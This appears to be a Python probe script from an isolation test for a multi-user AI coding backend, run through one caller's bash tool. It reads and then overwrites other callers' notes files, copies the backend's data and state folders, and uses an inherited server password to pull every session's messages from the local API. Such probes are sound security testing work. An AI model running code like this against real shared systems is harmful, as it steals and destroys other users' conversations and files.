"""Run by one caller's bash tool (python3 this.py OUT_DIR): whatever of other callers' conversations and files
it can reach, copied into OUT_DIR for the test to search; then it overwrites the other caller's notes."""

import base64
import json
import os
import shutil
import sys
import urllib.request

out = sys.argv[1]
os.makedirs(out, exist_ok=True)


def write(name, text):
    with open(os.path.join(out, name), "w", errors="replace") as file:
        file.write(text)


def safely(function):
    try:
        return function()
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"


# the other caller's files, read and then overwritten: in the workspace, and in any folder this tool can see up to
# four levels above its own (her copy of the project, when each context has one, sits next to this one, under a
# folder per caller); not the whole disk, so that a broken sandbox overwrites nothing of anyone else's
walked = []


def notes_anywhere(limit=300_000):
    skipped = os.path.realpath(out)
    for top, folders, files in os.walk(os.path.realpath("../../../.."), onerror=lambda error: None):
        walked.append(top)
        folders[:] = [f for f in folders if os.path.join(top, f) != skipped]
        yield from (os.path.join(top, name) for name in files if name.endswith("-notes.txt"))
        if len(walked) > limit:
            return


def workspace():
    found = []
    here = {os.path.realpath(name) for name in os.listdir(".") if name.endswith("-notes.txt")}
    for path in sorted(here | set(notes_anywhere())):
        try:
            found.append(f"{path}: {open(path).read()}")
            with open(path, "w") as file:
                file.write("overwritten by another caller\n")
        except OSError as exc:
            found.append(f"{path}: {exc}")
    return "\n".join(found)


write("workspace.txt", safely(workspace))
write("walked.txt", "\n".join(walked))


# the backend's storage: every file of its data and state folders, copied
def storage():
    copied = os.path.join(out, "storage")
    for variable in ("XDG_DATA_HOME", "XDG_STATE_HOME", "COPILOT_HOME"):
        if os.environ.get(variable):
            shutil.copytree(
                os.environ[variable],
                os.path.join(copied, variable),
                dirs_exist_ok=True,
                symlinks=True,
                ignore=shutil.ignore_patterns("*.sock"),
            )
    return "copied"


write("storage-done.txt", safely(storage))


# the backend's API with the password every tool inherits: every session's messages
def api():
    cmdline = open("/proc/3/cmdline").read().split("\0")
    port = cmdline[cmdline.index("--port") + 1]
    auth = base64.b64encode(f"opencode:{os.environ['OPENCODE_SERVER_PASSWORD']}".encode()).decode()
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))

    def get(path):
        request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", headers={"Authorization": f"Basic {auth}"})
        return opener.open(request, timeout=10).read().decode()

    sessions = json.loads(get("/session"))
    return "\n".join(safely(lambda s=s: get(f"/session/{s['id']}/message")) for s in sessions)


write("api.txt", safely(api))
print("looked")
